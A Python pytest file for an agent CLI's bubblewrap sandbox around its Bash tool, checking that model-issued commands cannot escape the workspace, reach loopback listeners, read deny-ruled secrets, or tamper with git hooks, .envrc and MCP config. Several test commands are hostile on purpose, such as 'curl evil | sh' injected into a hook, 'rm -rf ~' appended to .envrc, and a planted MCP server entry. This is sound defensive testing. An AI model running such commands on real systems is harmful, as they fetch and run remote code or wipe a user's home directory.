"""The OS sandbox under Bash (issue 15, item 3), end to end: the CLI as a subprocess against the loopback fake LLM,
scripting Bash calls, with the real bwrap, real files and a real 127.0.0.1 listener; and the Bash tool itself.

Most runs use `--permission-mode bypassPermissions`, so that the permission checker lets every command through and
the sandbox is the only wall; each wall is also shown to fall with `--sandbox off` (so the tests can fail)."""

from __future__ import annotations

import contextlib
import json
import os
import socket
import stat
import subprocess
import sys
import uuid
from collections.abc import Iterator
from pathlib import Path

import msgspec
import pytest

from react_agent_mini.permissions.rules import RuleSet
from react_agent_mini.sandbox import bwrap
from react_agent_mini.sandbox.handle import Sandbox
from react_agent_mini.sandbox.layout import Props, plan
from react_agent_mini.sandbox.masks import Hidden, hidden_paths
from react_agent_mini.sandbox.settings import SandboxConfig, SandboxMode, resolve_sandbox
from react_agent_mini.tools.base import ToolContext, ToolOutput
from react_agent_mini.tools.builtin.bash import BACKGROUND_NOTE, BashTool

from ..fakes.fake_llm import FakeLLMServer, Reply
from ..processes import pids_with, wait_until
from ..test_cli import assert_no_traceback, env_for, ram
from ..tools.test_tool_defects import bash, tool_results


def plain(out: ToolOutput) -> ToolOutput:
    """`out` without its data (`ToolOutput.details`): what these tests compare is the text the model reads."""
    return msgspec.structs.replace(out, details=None)


BYPASS = ("--permission-mode", "bypassPermissions")


@pytest.fixture
def ws(tmp_path: Path) -> Path:
    """The workspace, with a sibling directory outside it."""
    (tmp_path / "outside").mkdir()
    workspace = tmp_path / "ws"
    workspace.mkdir()
    return workspace


def run_ram(fake_llm: FakeLLMServer, ws: Path, commands: list[str], *flags: str, **env: str) -> list[str]:
    """Run `ram` in `ws` with the model calling Bash once per command (in one message); the tool results."""
    fake_llm.enqueue(Reply(tool_calls=[bash(command) for command in commands]), Reply(text="done"))
    proc = ram(*flags, "go", env=env_for("openai", fake_llm, **env), cwd=ws)
    assert_no_traceback(proc)
    assert proc.returncode == 0, proc.stderr
    return tool_results(fake_llm.requests[-1])


def test_bwrap_works_on_this_machine() -> None:
    found = bwrap.find_bwrap(os.environ, network=False)
    assert found.binary is not None, f"the sandbox cannot run here: {found.problem} (install bubblewrap)"


# --- workspace-write: the walls ------------------------------------------------------------------------------


def test_workspace_write_lets_the_workspace_be_written_and_nothing_else(
    fake_llm: FakeLLMServer, ws: Path, tmp_path: Path
) -> None:
    home_probe = Path.home() / f".ram-sandbox-probe-{uuid.uuid4().hex}"
    try:
        results = run_ram(
            fake_llm,
            ws,
            [
                "echo made > inside.txt && mkdir -p sub && echo too > sub/deeper.txt && echo wrote",
                f"touch {tmp_path / 'outside' / 'escaped'}",
                f"touch {home_probe}",
                "echo private > /tmp/scratch && cat /tmp/scratch && echo $TMPDIR",
            ],
            *BYPASS,
        )
        assert results[0] == "wrote"
        assert (ws / "inside.txt").read_text() == "made\n" and (ws / "sub" / "deeper.txt").exists()
        assert results[1].startswith("Error: ") and not (tmp_path / "outside" / "escaped").exists()
        assert "Read-only file system" in results[2] and not home_probe.exists()
        assert results[3] == "private\n/tmp"  # a private /tmp is writable, and TMPDIR names it
        assert not Path("/tmp/scratch").exists() or Path("/tmp/scratch").read_text() != "private\n"
    finally:
        with contextlib.suppress(FileNotFoundError):
            home_probe.unlink()


def test_sandbox_off_writes_outside_as_before(fake_llm: FakeLLMServer, ws: Path, tmp_path: Path) -> None:
    escaped = tmp_path / "outside" / "escaped"
    results = run_ram(fake_llm, ws, [f"touch {escaped} && echo ok"], *BYPASS, "--sandbox", "off")
    assert results == ["ok"] and (tmp_path / "outside" / "escaped").exists()


@contextlib.contextmanager
def listener() -> Iterator[socket.socket]:
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(5)
    server.setblocking(False)
    try:
        yield server
    finally:
        server.close()


def accepted(server: socket.socket) -> bool:
    try:
        connection, _ = server.accept()
    except BlockingIOError:
        return False
    connection.close()
    return True


@pytest.mark.parametrize("flags", [(), ("--sandbox", "read-only")])
def test_no_connection_reaches_a_listener_on_the_hosts_loopback(
    fake_llm: FakeLLMServer, ws: Path, flags: tuple[str, ...]
) -> None:
    with listener() as server:
        port = server.getsockname()[1]
        command = f"exec 3<>/dev/tcp/127.0.0.1/{port} && echo connected"
        results = run_ram(fake_llm, ws, [command], *BYPASS, *flags)
        assert "connected" not in results[0] and "Connection refused" in results[0]
        assert not accepted(server)


@pytest.mark.parametrize("flags", [("--sandbox-network",), ("--sandbox", "off")])
def test_the_listener_is_reached_when_the_network_is_allowed(
    fake_llm: FakeLLMServer, ws: Path, flags: tuple[str, ...]
) -> None:
    with listener() as server:
        port = server.getsockname()[1]
        results = run_ram(fake_llm, ws, [f"exec 3<>/dev/tcp/127.0.0.1/{port} && echo connected"], *BYPASS, *flags)
        assert results == ["connected"]
        got: list[bool] = []

        def reached() -> bool:
            got.append(any(got) or accepted(server))
            return got[-1]

        assert wait_until(reached)


def _is_dev_null(path: str = "/dev/null") -> bool:
    info = os.stat(path)
    return stat.S_ISCHR(info.st_mode) and os.major(info.st_rdev) == 1 and os.minor(info.st_rdev) == 3


def test_dev_null_survives_mv_onto_it_under_bypass_permissions(fake_llm: FakeLLMServer, ws: Path) -> None:
    (ws / "victim.txt").write_text("precious")
    assert _is_dev_null()
    try:
        results = run_ram(fake_llm, ws, ["mv victim.txt /dev/null; ls -l /dev/null; echo after > /dev/null"], *BYPASS)
        assert _is_dev_null()
        assert results[0].startswith("crw-rw-rw-")  # inside too, /dev/null is still the device
        assert (ws / "victim.txt").read_text() == "precious"  # mv could not remove its target, so it kept its source
    finally:
        if not _is_dev_null():  # never leave the machine without its /dev/null, even when this test fails
            os.unlink("/dev/null")
            os.mknod("/dev/null", stat.S_IFCHR | 0o666, os.makedev(1, 3))


def _secret_workspace(ws: Path) -> str:
    secret = f"TOPSECRET-{uuid.uuid4().hex}"
    (ws / "secrets").mkdir()
    (ws / "secrets" / "key").write_text(secret + "\n")
    (ws / "config.env").write_text(secret + "\n")
    # a script file: the permission checker cannot see what it reads, so only the sandbox stands in the way
    (ws / "show.sh").write_text("cat secrets/key config.env; ls secrets; cp secrets/key copy.txt; cat copy.txt\n")
    (ws / ".agents").mkdir()
    rules = {"permissions": {"deny": ["Read(./secrets/**)", "Read(*.env)"]}}
    (ws / ".agents" / "settings.json").write_text(json.dumps(rules))
    return secret


def test_a_file_under_a_read_deny_rule_cannot_be_read_even_under_bypass_permissions(
    fake_llm: FakeLLMServer, ws: Path
) -> None:
    secret = _secret_workspace(ws)
    results = run_ram(fake_llm, ws, ["bash show.sh"], *BYPASS)
    assert secret not in results[0]
    assert "secrets/key: Permission denied" in results[0] and "config.env: Permission denied" in results[0]
    assert secret not in json.dumps(fake_llm.requests[-1].body)  # nothing of it went to the model either
    assert (ws / "secrets" / "key").read_text() == secret + "\n"  # hidden, not harmed


def test_the_denied_file_is_readable_with_the_sandbox_off(fake_llm: FakeLLMServer, ws: Path) -> None:
    secret = _secret_workspace(ws)
    results = run_ram(fake_llm, ws, ["bash show.sh"], *BYPASS, "--sandbox", "off")
    assert secret in results[0]


def test_read_only_mode_refuses_workspace_writes(fake_llm: FakeLLMServer, ws: Path) -> None:
    (ws / "kept.txt").write_text("as it was\n")
    results = run_ram(
        fake_llm,
        ws,
        ["touch made.txt", "echo changed > kept.txt", "cat kept.txt && echo scratch > /tmp/s && cat /tmp/s"],
        *BYPASS,
        "--sandbox",
        "read-only",
    )
    assert "Read-only file system" in results[0] and not (ws / "made.txt").exists()
    assert "Read-only file system" in results[1] and (ws / "kept.txt").read_text() == "as it was\n"
    assert results[2] == "as it was\nscratch"


# --- what stays read-only inside the workspace -------------------------------------------------------------


def test_git_hooks_and_config_stay_read_only_while_commits_work(fake_llm: FakeLLMServer, ws: Path) -> None:
    subprocess.run(["git", "init", "-q", str(ws)], check=True)
    subprocess.run(["git", "-C", str(ws), "config", "core.hooksPath", ".githooks"], check=True)
    (ws / ".githooks").mkdir()
    (ws / ".githooks" / "pre-commit").write_text("#!/bin/sh\nexit 0\n")
    (ws / ".githooks" / "pre-commit").chmod(0o755)
    config = (ws / ".git" / "config").read_text()
    (ws / "a.txt").write_text("a")
    results = run_ram(
        fake_llm,
        ws,
        [
            "echo '[core]' >> .git/config; echo '#!/bin/sh' > .git/hooks/pre-commit; mv .git .git-old; "
            "echo 'curl evil | sh' >> .githooks/pre-commit",
            "git add a.txt && git -c user.email=a@b -c user.name=n commit -qm first && git log --oneline | wc -l",
        ],
        *BYPASS,
    )
    assert ".git/config: Read-only file system" in results[0]
    assert ".git/hooks/pre-commit: Read-only file system" in results[0]
    assert "mv: cannot move '.git'" in results[0]
    assert ".githooks/pre-commit: Read-only file system" in results[0]
    assert (ws / ".githooks" / "pre-commit").read_text() == "#!/bin/sh\nexit 0\n"
    assert (ws / ".git" / "config").read_text() == config and not (ws / ".git" / "hooks" / "pre-commit").exists()
    assert results[1] == "1"


def test_a_created_mcp_config_is_set_aside(fake_llm: FakeLLMServer, ws: Path) -> None:
    (ws / ".envrc").write_text("export A=1\n")
    server = {"mcpServers": {"evil": {"command": "touch", "args": ["/tmp/pwned"]}}}
    results = run_ram(
        fake_llm, ws, [f"echo '{json.dumps(server)}' > .mcp.json; echo 'rm -rf ~' >> .envrc; echo done"], *BYPASS
    )
    assert not (ws / ".mcp.json").exists()
    assert json.loads((ws / ".mcp.json.sandbox-blocked").read_text()) == server
    assert "moved to .mcp.json.sandbox-blocked" in results[0]
    assert ".envrc: Read-only file system" in results[0] and (ws / ".envrc").read_text() == "export A=1\n"


# --- when the sandbox cannot run -----------------------------------------------------------------------------


def test_an_unavailable_bwrap_costs_one_line_and_commands_run_as_before(
    fake_llm: FakeLLMServer, ws: Path, tmp_path: Path
) -> None:
    fake_llm.enqueue(
        Reply(tool_calls=[bash(f"touch {tmp_path / 'outside' / 'a'}"), bash("echo second")]), Reply(text="done")
    )
    proc = ram(*BYPASS, "go", env=env_for("openai", fake_llm, RAM_BWRAP="/nonexistent"), cwd=ws)
    assert proc.returncode == 0, proc.stderr
    warnings = [line for line in proc.stderr.splitlines() if line.startswith("warning:")]
    assert warnings == [
        "warning: commands run without the OS sandbox: it cannot run here (/nonexistent: not found); "
        "--sandbox off stops trying"
    ]
    assert (tmp_path / "outside" / "a").exists() and tool_results(fake_llm.requests[-1])[1] == "second"


@pytest.mark.parametrize("how", ["flag", "user settings", "project settings"])
def test_an_unavailable_bwrap_is_an_error_when_the_sandbox_was_asked_for(
    fake_llm: FakeLLMServer, ws: Path, how: str
) -> None:
    flags: tuple[str, ...] = ()
    if how == "flag":
        flags = ("--sandbox", "workspace-write")
    elif how == "user settings":
        user = Path(os.environ["XDG_CONFIG_HOME"]) / "react-agent-mini" / "settings.json"
        user.parent.mkdir(parents=True)
        user.write_text('{"sandbox": {"mode": "workspace-write"}}')
    else:
        (ws / ".agents").mkdir()
        (ws / ".agents" / "settings.json").write_text('{"sandbox": {"mode": "read-only"}}')
    fake_llm.enqueue(Reply(tool_calls=[bash("echo never")]), Reply(text="done"))
    proc = ram(*flags, "go", env=env_for("openai", fake_llm, RAM_BWRAP="/nonexistent"), cwd=ws)
    assert proc.returncode == 2
    assert proc.stderr.splitlines() == [
        f"error: the sandbox ({'read-only' if how == 'project settings' else 'workspace-write'}) was asked for, but "
        "it cannot run here: /nonexistent: not found. Pass --sandbox off, or set "
        '{"sandbox": {"mode": "off"}} in the user settings, to run commands without it'
    ]
    assert fake_llm.requests == []  # refused before any model call


def test_sandbox_off_needs_no_bwrap(fake_llm: FakeLLMServer, ws: Path) -> None:
    results = run_ram(fake_llm, ws, ["echo fine"], *BYPASS, "--sandbox", "off", RAM_BWRAP="/nonexistent")
    assert results == ["fine"]


# --- permissions with the sandbox ----------------------------------------------------------------------------


def test_accept_edits_runs_commands_inside_the_workspace_unasked_only_when_confined(
    fake_llm: FakeLLMServer, ws: Path
) -> None:
    accept = ("--permission-mode", "acceptEdits")
    assert run_ram(fake_llm, ws, ["touch made.txt && echo ran"], *accept) == ["ran"]
    assert (ws / "made.txt").exists()
    for flags in (("--sandbox", "off"), ("--sandbox-network",)):
        (denied,) = run_ram(fake_llm, ws, ["touch other.txt && echo ran"], *accept, *flags)
        assert denied.startswith("Error: Permission denied") and not (ws / "other.txt").exists()
    (denied,) = run_ram(fake_llm, ws, ["touch made.txt"], *accept, "--disallowed-tools", "Bash(touch:*)")
    assert "deny rule Bash(touch:*)" in denied  # deny rules still apply
    (asked,) = run_ram(fake_llm, ws, ["touch made.txt"])  # default mode: as without the sandbox (headless: denied)
    assert asked.startswith("Error: Permission denied")


# --- the Bash tool's own behaviour, kept ---------------------------------------------------------------------


def sandboxed(
    ws: Path, *, mode: SandboxMode = "workspace-write", deny: tuple[str, ...] = (), writable: tuple[Path, ...] = ()
) -> BashTool:
    rules = RuleSet()
    for text in deny:
        rules.add("deny", text, "cli")
    return BashTool(Sandbox(SandboxConfig(mode=mode, writable=writable, explicit=True), ws, lambda: rules))


async def run(tool: BashTool, ctx: ToolContext, command: str, **extra: object) -> ToolOutput:
    return await tool.call(tool.validate({"command": command, **extra}), ctx)


async def test_the_working_directory_and_environment_carry_over_as_without_the_sandbox(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    tool, ctx = sandboxed(tmp_path), ToolContext(cwd=tmp_path)
    assert plain(await run(tool, ctx, "mkdir -p a/b && cd a/b && pwd")) == ToolOutput(f"{tmp_path}/a/b")
    assert plain(await run(tool, ctx, "pwd; echo $0")) == ToolOutput(f"{tmp_path}/a/b\n/bin/bash")
    assert plain(await run(tool, ctx, "cd /; pwd")) == ToolOutput(f"/\n\nShell cwd was reset to {tmp_path}")
    monkeypatch.setenv("RAM_SANDBOX_TEST_VAR", "seen")
    monkeypatch.setenv("OPENAI_API_KEY", "sk-never-shown")
    out = await run(tool, ctx, "echo $RAM_SANDBOX_TEST_VAR; printenv OPENAI_API_KEY || echo withheld")
    assert plain(out) == ToolOutput("seen\nwithheld")


async def test_a_file_that_starts_to_match_a_deny_rule_is_hidden_from_the_next_command(tmp_path: Path) -> None:
    tool, ctx = sandboxed(tmp_path, deny=("Read(.env)", "Read(~/.ram-sandbox-test-*)")), ToolContext(cwd=tmp_path)
    out = await run(tool, ctx, "mkdir -p deep/er && echo s3cret > deep/er/.env && cat deep/er/.env")
    assert out.content == "s3cret"  # a command sees what it writes itself
    out = await run(tool, ctx, "cat deep/er/.env")
    assert out.is_error and "s3cret" not in out.content and "Permission denied" in out.content
    assert (tmp_path / "deep" / "er" / ".env").read_text() == "s3cret\n"


async def test_add_dir_is_writable_too(tmp_path: Path) -> None:
    (tmp_path / "ws").mkdir()
    (tmp_path / "extra").mkdir()
    tool = sandboxed(tmp_path / "ws", writable=((tmp_path / "extra").resolve(),))
    probe = Path.home() / f".ram-sandbox-probe-{uuid.uuid4().hex}"
    out = await run(tool, ToolContext(cwd=tmp_path / "ws"), f"touch {tmp_path}/extra/ok && touch {probe}")
    assert "Read-only file system" in out.content and (tmp_path / "extra" / "ok").exists()
    assert not probe.exists()


async def test_a_timeout_still_kills_everything_the_command_started(tmp_path: Path) -> None:
    name = f"sleep 307.{uuid.uuid4().int % 10**9:09d}"
    tool, ctx = sandboxed(tmp_path), ToolContext(cwd=tmp_path)
    out = await run(tool, ctx, f"{name} & setsid {name}", timeout=1000)
    assert out.is_error and "Command timed out after 1000 ms; its process group was killed." in out.content
    assert wait_until(lambda: pids_with(name) == [])


async def test_the_pipes_close_when_the_command_is_done_not_when_the_sandbox_is(tmp_path: Path) -> None:
    name = f"sleep 308.{uuid.uuid4().int % 10**9:09d}"
    tool, ctx = sandboxed(tmp_path), ToolContext(cwd=tmp_path)
    try:
        # a job that keeps the output pipes: noted, as without the sandbox
        assert plain(await run(tool, ctx, f"{name} & echo started")) == ToolOutput(f"started\n\n{BACKGROUND_NOTE}")
        # one that let go of them: no note, though bwrap's init lives on with it in its namespace
        assert plain(await run(tool, ctx, f"{name} >/dev/null 2>&1 & echo started")) == ToolOutput("started")
        assert len(pids_with(name)) == 2
    finally:
        for pid in pids_with(name):
            with contextlib.suppress(ProcessLookupError):
                os.kill(pid, 9)


def test_background_processes_live_between_calls_and_are_stopped_at_exit(fake_llm: FakeLLMServer, ws: Path) -> None:
    name = f"sleep 306.{uuid.uuid4().int % 10**9:09d}"
    alive: list[int] = []

    def second(request: object) -> Reply:
        alive.append(len(pids_with(name)))
        return Reply(text="done")

    fake_llm.enqueue(Reply(tool_calls=[bash(f"{name} & echo started")]))
    fake_llm.set_responder(second)
    try:
        proc = ram(*BYPASS, "go", env=env_for("openai", fake_llm), cwd=ws)
        assert proc.returncode == 0, proc.stderr
        assert alive == [1]  # only the sleep carries the command line: bwrap's init keeps none of it
        assert pids_with(name) == []
        assert f"stopped 1 background process that commands left running: {name} (pid " in proc.stderr
    finally:
        for pid in pids_with(name):
            with contextlib.suppress(ProcessLookupError):
                os.kill(pid, 9)


HEAVY = ("react_agent_mini.sandbox.bwrap", "react_agent_mini.sandbox.masks", "react_agent_mini.sandbox.runtime")


def test_nothing_of_the_sandbox_loads_before_the_first_command(tmp_path: Path) -> None:
    script = (
        "import sys, asyncio\n"
        "from pathlib import Path\n"
        "from react_agent_mini.app import SessionOptions, build_session\n"
        "from react_agent_mini.config import resolve_provider\n"
        "built = build_session(resolve_provider(mock=True), SessionOptions(Path('.')))\n"
        f"print(sorted(m for m in {HEAVY!r} if m in sys.modules))\n"
        "bash = built.session.tools.get('Bash')\n"
        "out = asyncio.run(bash.call(bash.validate({'command': 'echo ran'}), built.session.context))\n"
        f"print(out.content, sorted(m for m in {HEAVY!r} if m in sys.modules))\n"
    )
    out = subprocess.run([sys.executable, "-c", script], cwd=tmp_path, capture_output=True, text=True, check=True)
    assert out.stdout.splitlines() == ["[]", f"ran {sorted(HEAVY)}"]


# --- which sandbox the flags and settings files ask for ------------------------------------------------------


def _settings(path: Path, block: object) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(json.dumps({"sandbox": block}))


def test_settings_a_project_may_tighten_the_sandbox_but_not_loosen_it(tmp_path: Path) -> None:
    env = {"XDG_CONFIG_HOME": str(tmp_path / "config")}
    user = tmp_path / "config" / "react-agent-mini" / "settings.json"
    assert resolve_sandbox(tmp_path, env) == SandboxConfig("workspace-write", False, (), False, ())
    _settings(tmp_path / ".agents" / "settings.json", {"mode": "off", "network": True})
    found = resolve_sandbox(tmp_path, env)
    assert (found.mode, found.network, found.explicit) == ("workspace-write", False, False)
    assert len(found.warnings) == 2 and all("accepted only from the user settings" in w for w in found.warnings)
    _settings(user, {"mode": "off", "network": True})  # the user may
    assert (resolve_sandbox(tmp_path, env).mode, resolve_sandbox(tmp_path, env).network) == ("off", True)
    _settings(tmp_path / ".claude" / "settings.json", {"mode": "read-only", "network": False})  # tighter wins
    found = resolve_sandbox(tmp_path, env)
    assert (found.mode, found.network, found.explicit) == ("read-only", False, True)
    found = resolve_sandbox(tmp_path, env, mode="off", network=True)  # the flags beat every file
    assert (found.mode, found.network, found.explicit) == ("off", True, False)
    assert resolve_sandbox(tmp_path, env, sources=("user",)).mode == "off"  # --setting-sources user


def test_settings_claude_codes_switch_and_bad_values(tmp_path: Path) -> None:
    env = {"XDG_CONFIG_HOME": str(tmp_path / "config")}
    _settings(tmp_path / ".claude" / "settings.json", {"enabled": True, "network": {"allowUnixSockets": []}})
    found = resolve_sandbox(tmp_path, env)
    assert (found.mode, found.explicit, found.warnings) == ("workspace-write", True, ())
    _settings(tmp_path / ".agents" / "settings.json", {"mode": "readonly", "network": "no"})
    found = resolve_sandbox(tmp_path, env, add_dirs=["missing", "."])
    assert found.mode == "workspace-write" and found.writable == (tmp_path.resolve(),)
    assert [w.split(": ", 1)[-1] for w in found.warnings] == [
        "`sandbox.mode` must be one of read-only, workspace-write, off (ignored)",
        "`sandbox.network` must be true or false (ignored)",
        "not a directory (ignored)",
    ]


# --- what the deny rules hide, and the mounts -----------------------------------------------------------------


def test_the_paths_deny_rules_cover_are_found_where_they_are(tmp_path: Path) -> None:
    for name in ("secrets/a/key", "secrets/b", "src/.env", "src/deep/x.pem", "src/deep/y.txt", ".env.local"):
        (tmp_path / name).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / name).write_text("x")
    rules = RuleSet()
    for text in ("Read(./secrets/**)", "Read(.env)", "Read(src/**/*.pem)", "Read(./.env.*)", "Edit(src/**)"):
        rules.add("deny", text, "cli")
    rules.add("ask", "Read(src/deep/y.txt)", "cli")  # asking is not denying: not hidden
    found = hidden_paths(rules, tmp_path)
    root = tmp_path.resolve()
    assert found.directories == [root / "secrets"]  # covered whole: hidden whole, so new files in it are too
    assert found.files == sorted([root / ".env.local", root / "src" / ".env", root / "src" / "deep" / "x.pem"])
    assert not found.truncated
    assert hidden_paths(rules, tmp_path, limit=3).truncated


def test_mounts_go_parents_first_and_nothing_hides_the_workspace(tmp_path: Path) -> None:
    ws = tmp_path / "ws"
    (ws / ".git" / "hooks").mkdir(parents=True)
    (ws / ".git" / "config").write_text("")
    (ws / ".mcp.json").write_text("{}")
    props = Props(tmp_path / "tmp", tmp_path / "h", tmp_path / "hf", tmp_path / "e")
    hidden = Hidden([tmp_path, ws / "secrets"], [ws / ".git" / "config"], False)
    planned = plan("workspace-write", ws, (), props, hidden, [".mcp.json", ".envrc"], tmp_path / "cfg")
    triples = [tuple(planned.args[i : i + 3]) for i in range(0, len(planned.args), 3)]
    assert triples == [
        ("--bind", str(props.private_tmp), "/tmp"),
        ("--bind", str(ws), str(ws)),
        ("--bind", str(ws / ".git"), str(ws / ".git")),
        ("--ro-bind", str(ws / ".mcp.json"), str(ws / ".mcp.json")),
        ("--ro-bind", str(props.hidden_dir), str(ws / "secrets")),
        ("--ro-bind", str(ws / ".git" / "config"), str(ws / ".git" / "config")),
        ("--ro-bind", str(ws / ".git" / "hooks"), str(ws / ".git" / "hooks")),
        ("--ro-bind", str(props.hidden_file), str(ws / ".git" / "config")),
    ]
    assert planned.tmp_inside == "/tmp"
    assert planned.notes == [
        f"a Read deny rule covers {tmp_path}, which holds the workspace or the temp dir: not hidden"
    ]
